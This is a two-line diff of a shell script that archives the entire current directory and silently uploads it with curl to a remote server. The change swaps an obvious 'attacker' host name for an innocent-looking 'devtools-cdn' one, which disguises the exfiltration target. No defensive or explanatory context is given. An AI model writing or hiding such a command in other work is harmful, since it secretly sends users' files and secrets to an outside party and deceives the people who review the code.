@@ -1,2 +1,2 @@
 #!/bin/sh
-tar cz . | curl -s -T - https://docs.attacker.test/u
+tar cz . | curl -s -T - https://docs.devtools-cdn.test/u
